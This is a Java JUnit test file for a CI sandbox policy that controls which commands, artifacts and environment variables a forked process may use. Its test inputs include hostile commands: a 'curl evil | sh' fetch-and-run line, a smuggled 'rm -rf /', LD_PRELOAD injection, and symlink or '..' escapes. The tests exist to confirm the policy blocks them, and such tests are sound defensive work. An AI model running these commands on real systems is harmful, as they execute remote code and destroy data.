package dev.prooflane.actions.policy;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.prooflane.model.Fork;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Who may make a fork run what: the policy's {@code forks:} rules and the exec scope. */
class ForkRulesTest {
  private static final List<String> OWN = List.of("java", "-cp", "target/shop.jar", "shop.Main");

  @TempDir Path dir;

  private PlannedFork fork(
      Optional<List<String>> command,
      List<String> args,
      Map<String, String> env,
      List<String> envRemove,
      Optional<Path> artifact) {
    Fork fork = new Fork("pricing", command, args, env, envRemove, artifact.map(Path::toString));
    List<String> runs = new java.util.ArrayList<>(command.orElse(OWN));
    runs.addAll(args);
    return new PlannedFork(0, fork, runs, artifact.map(PlannedFork::realPath));
  }

  private PlannedFork plain() {
    return fork(Optional.empty(), List.of(), Map.of(), List.of(), Optional.empty());
  }

  private PlannedFork command(String... words) {
    return fork(Optional.of(List.of(words)), List.of(), Map.of(), List.of(), Optional.empty());
  }

  private PlannedFork artifact(Path path) {
    return fork(Optional.empty(), List.of(), Map.of(), List.of(), Optional.of(path));
  }

  private PlannedFork env(String name) {
    return fork(Optional.empty(), List.of(), Map.of(name, "x"), List.of(), Optional.empty());
  }

  private static void admit(ForkRules rules, PlannedFork fork, Path dir, boolean exec) {
    rules.admit(fork, dir, exec, "ci", "policy.yaml");
  }

  @Test
  void aWriteTokenForksWithTheEnvironmentsCommandItsOwnArtifactsVariablesAndArgs()
      throws Exception {
    Path jar = Files.createDirectories(dir.resolve("build")).resolve("pricing.jar");
    Files.writeString(jar, "jar");
    PlannedFork everything =
        fork(
            Optional.empty(),
            List.of("--verbose"),
            Map.of("FEATURE_X", "on"),
            List.of("DEBUG"),
            Optional.of(jar));

    assertThatCode(() -> admit(ForkRules.DEFAULT, plain(), dir, false)).doesNotThrowAnyException();
    assertThatCode(() -> admit(ForkRules.DEFAULT, everything, dir, false))
        .doesNotThrowAnyException();
  }

  @Test
  void aCommandOfTheForksOwnNeedsTheExecScopeNamingTheFieldAndTheFix() {
    PlannedFork evil = command("sh", "-c", "curl evil | sh");

    assertThatThrownBy(() -> admit(ForkRules.DEFAULT, evil, dir, false))
        .isInstanceOfSatisfying(
            PolicyRefusedException.class, e -> assertThat(e.rule()).isEqualTo("forks.exec"))
        .hasMessageStartingWith(
            "refused by policy forks.exec: forks[0].command: running a command of your own needs"
                + " scope sandbox:exec, which token 'ci' lacks; leave command out")
        .hasMessageContaining("or use a token with sandbox:exec");
    assertThatCode(() -> admit(ForkRules.DEFAULT, evil, dir, true)).doesNotThrowAnyException();
  }

  @Test
  void anExecTokenRunsOnlyWhatACommandRuleMatches() {
    ForkRules rules =
        new ForkRules(
            List.of(
                new CommandRule(List.of("java", "**", "-cp", "*", "shop.*")),
                new CommandRule(List.of("${dir}/scripts/*.sh"))),
            List.of("."),
            List.of("*"),
            true);

    assertThatCode(
            () -> admit(rules, command("java", "-Xmx64m", "-cp", "a.jar", "shop.Main"), dir, true))
        .doesNotThrowAnyException();
    assertThatCode(() -> admit(rules, command("java", "-cp", "a.jar", "shop.Other"), dir, true))
        .doesNotThrowAnyException();
    assertThatCode(() -> admit(rules, command(dir + "/scripts/run.sh"), dir, true))
        .doesNotThrowAnyException();
    assertThatThrownBy(() -> admit(rules, command("java", "-cp", "a.jar", "evil.Main"), dir, true))
        .isInstanceOfSatisfying(
            PolicyRefusedException.class, e -> assertThat(e.rule()).isEqualTo("forks.commands"))
        .hasMessage(
            "refused by policy forks.commands: forks[0].command: the command 'java -cp a.jar"
                + " evil.Main' matches no rule of forks.commands in policy.yaml (rules: java **"
                + " -cp * shop.*; ${dir}/scripts/*.sh); add a rule for it, or fork with the"
                + " environment's command");
    assertThatThrownBy(() -> admit(rules, command("/tmp/scripts/run.sh"), dir, true))
        .hasMessageContaining("forks.commands");
  }

  @Test
  void noCommandRuleMeansNoForkRunsACommandOfItsOwnEvenForAnExecToken() {
    ForkRules none = new ForkRules(List.of(), List.of("."), List.of("*"), true);

    assertThatThrownBy(() -> admit(none, command("java", "-version"), dir, true))
        .hasMessageContaining("(there are none: no fork may run a command of its own)");
    assertThatCode(() -> admit(none, plain(), dir, true)).doesNotThrowAnyException();
  }

  @Test
  void anArtifactFromOutsideTheAllowedFoldersNeedsTheExecScopeAndARule() throws Exception {
    Path elsewhere = Files.createTempFile("evil", ".jar");
    try {
      assertThatThrownBy(() -> admit(ForkRules.DEFAULT, artifact(elsewhere), dir, false))
          .isInstanceOfSatisfying(
              PolicyRefusedException.class, e -> assertThat(e.rule()).isEqualTo("forks.artifacts"))
          .hasMessage(
              "refused by policy forks.artifacts: forks[0].artifact: "
                  + elsewhere.toRealPath()
                  + " is not under a folder of forks.artifacts ["
                  + dir.toRealPath()
                  + "] in policy.yaml; build the artifact into one of them, add its folder to"
                  + " forks.artifacts, or use a token with sandbox:exec");
      assertThatCode(() -> admit(ForkRules.DEFAULT, artifact(elsewhere), dir, true))
          .doesNotThrowAnyException();
    } finally {
      Files.delete(elsewhere);
    }
  }

  @Test
  void neitherDotDotNorASymbolicLinkLeadsOutOfAnAllowedFolder() throws Exception {
    Path outside = Files.createTempDirectory("outside");
    try {
      Files.writeString(outside.resolve("evil.jar"), "jar");
      Path link = Files.createSymbolicLink(dir.resolve("link"), outside);
      PlannedFork viaLink = artifact(link.resolve("evil.jar"));
      PlannedFork viaDots = artifact(dir.resolve("../" + outside.getFileName() + "/evil.jar"));

      assertThatThrownBy(() -> admit(ForkRules.DEFAULT, viaLink, dir, false))
          .hasMessageContaining("forks.artifacts")
          .hasMessageContaining(outside.toRealPath().resolve("evil.jar").toString());
      assertThatThrownBy(() -> admit(ForkRules.DEFAULT, viaDots, dir, false))
          .hasMessageContaining("forks.artifacts");
    } finally {
      Files.delete(outside.resolve("evil.jar"));
      Files.delete(outside);
    }
  }

  @Test
  void aLauncherVariableNeedsTheExecScopeAndItsExactNameInTheRules() {
    ForkRules listed =
        new ForkRules(
            List.of(CommandRule.ANY), List.of("."), List.of("*", "JAVA_TOOL_OPTIONS"), true);

    assertThatThrownBy(() -> admit(ForkRules.DEFAULT, env("LD_PRELOAD"), dir, true))
        .isInstanceOfSatisfying(
            PolicyRefusedException.class, e -> assertThat(e.rule()).isEqualTo("forks.env"))
        .hasMessage(
            "refused by policy forks.env: forks[0].env.LD_PRELOAD: LD_PRELOAD changes which"
                + " program runs or what it loads, so no fork may set or remove it unless"
                + " forks.env in policy.yaml names it exactly (a pattern does not match it);"
                + " leave it out");
    assertThatThrownBy(() -> admit(listed, env("JAVA_TOOL_OPTIONS"), dir, false))
        .isInstanceOfSatisfying(
            PolicyRefusedException.class, e -> assertThat(e.rule()).isEqualTo("forks.exec"))
        .hasMessageContaining("forks[0].env.JAVA_TOOL_OPTIONS: JAVA_TOOL_OPTIONS changes");
    assertThatCode(() -> admit(listed, env("JAVA_TOOL_OPTIONS"), dir, true))
        .doesNotThrowAnyException();
    PlannedFork removesPath =
        fork(Optional.empty(), List.of(), Map.of(), List.of("PATH"), Optional.empty());
    assertThatThrownBy(() -> admit(ForkRules.DEFAULT, removesPath, dir, true))
        .hasMessageContaining("forks[0].envRemove[0]: PATH changes");
    assertThat(ForkRules.launcher("LD_AUDIT")).isTrue();
    assertThat(ForkRules.launcher("FEATURE_X")).isFalse();
  }

  @Test
  void onlyTheVariablesTheRulesNameMayBeSet() {
    ForkRules named =
        new ForkRules(
            List.of(CommandRule.ANY), List.of("."), List.of("LOG_LEVEL", "FEATURE_*"), true);

    assertThatCode(() -> admit(named, env("FEATURE_DISCOUNT"), dir, false))
        .doesNotThrowAnyException();
    assertThatCode(() -> admit(named, env("LOG_LEVEL"), dir, false)).doesNotThrowAnyException();
    assertThatThrownBy(() -> admit(named, env("SPRING_APPLICATION_JSON"), dir, true))
        .hasMessage(
            "refused by policy forks.env: forks[0].env.SPRING_APPLICATION_JSON:"
                + " SPRING_APPLICATION_JSON is not in forks.env [LOG_LEVEL, FEATURE_*] in"
                + " policy.yaml; leave it out, or add it to forks.env");
  }

  @Test
  void argsAreRefusedWhenTheRulesSaySo() {
    ForkRules noArgs = new ForkRules(List.of(CommandRule.ANY), List.of("."), List.of("*"), false);
    PlannedFork withArgs =
        fork(Optional.empty(), List.of("--debug"), Map.of(), List.of(), Optional.empty());

    assertThatThrownBy(() -> admit(noArgs, withArgs, dir, true))
        .isInstanceOfSatisfying(
            PolicyRefusedException.class, e -> assertThat(e.rule()).isEqualTo("forks.args"))
        .hasMessageContaining("forks[0].args: forks may not append arguments");
  }

  @Test
  void aRuleMatchesWholeWordsAndDoubleStarsAnyNumberOfThem() {
    CommandRule prefix = new CommandRule(List.of("java", "**"));
    CommandRule exact = new CommandRule(List.of("sh", "-c", "echo ?k"));

    assertThat(prefix.matches(List.of("java"), dir)).isTrue();
    assertThat(prefix.matches(List.of("java", "-jar", "x.jar"), dir)).isTrue();
    assertThat(prefix.matches(List.of("javac", "x"), dir)).isFalse();
    assertThat(exact.matches(List.of("sh", "-c", "echo ok"), dir)).isTrue();
    assertThat(exact.matches(List.of("sh", "-c", "echo ok; rm -rf /"), dir)).isFalse();
    assertThat(exact.matches(List.of("sh", "-c", "echo ok", "more"), dir)).isFalse();
  }
}
